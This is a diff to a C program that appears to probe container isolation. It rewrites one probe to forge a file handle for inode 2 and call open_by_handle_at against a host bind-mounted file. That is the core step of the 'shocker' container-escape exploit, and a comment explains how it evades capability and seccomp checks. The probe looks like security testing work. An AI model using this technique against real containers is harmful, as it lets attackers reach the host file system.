@@ -5,7 +5,7 @@
  * line: "ok <detail>" when the attempt succeeded, "refused <errno name> <detail>" when it did not.
  *
  *   probe status                 CapEff, Seccomp and NoNewPrivs of this process
- *   probe handle <path>          name_to_handle_at on <path>, then open_by_handle_at ("shocker")
+ *   probe handle <path>          open_by_handle_at relative to <path> ("shocker")
  *   probe write <path>           create a file at <path>
  *   probe connect <ipv4> <port>  a TCP connection (3 s)
  */
@@ -48,17 +48,32 @@ static int status(void) {
     return 0;
 }
 
+/*
+ * The "shocker" escape: open_by_handle_at with a handle made up rather than asked for
+ * (name_to_handle_at needs CAP_SYS_ADMIN under Docker's seccomp profile; the exploit never calls
+ * it), relative to a file the host bind-mounts into every container (/etc/hostname), so the handle
+ * is looked up in the host's file system. The handle names inode 2, the root folder of an ext4
+ * file system. "ok" means the call got past the capability and seccomp checks: it opened the
+ * inode, or the file system itself turned the handle down (ESTALE, EINVAL); "refused EPERM" means
+ * the kernel or seccomp stopped it first.
+ */
 static int handle(const char *path) {
-    struct file_handle *fh = malloc(sizeof *fh + MAX_HANDLE_SZ);
-    fh->handle_bytes = MAX_HANDLE_SZ;
-    int mount_id;
-    if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) != 0) return refused("name_to_handle_at");
+    struct file_handle *fh = malloc(sizeof *fh + 8);
+    fh->handle_bytes = 8;
+    fh->handle_type = 1; /* FILEID_INO32_GEN */
+    unsigned int ino_gen[2] = { 2, 0 };
+    memcpy(fh->f_handle, ino_gen, sizeof ino_gen);
     int mount_fd = open(path, O_RDONLY);
     if (mount_fd < 0) return refused("open");
     int fd = open_by_handle_at(mount_fd, fh, O_RDONLY);
-    if (fd < 0) return refused("open_by_handle_at");
-    printf("ok open_by_handle_at opened %s by its handle\n", path);
-    close(fd);
+    if (fd >= 0) {
+        printf("ok open_by_handle_at opened inode 2 of the file system of %s\n", path);
+        close(fd);
+        return 0;
+    }
+    if (errno == EPERM) return refused("open_by_handle_at");
+    const char *name = strerrorname_np(errno);
+    printf("ok open_by_handle_at passed the privilege checks; the file system answered %s\n", name ? name : "an error");
     return 0;
 }
 
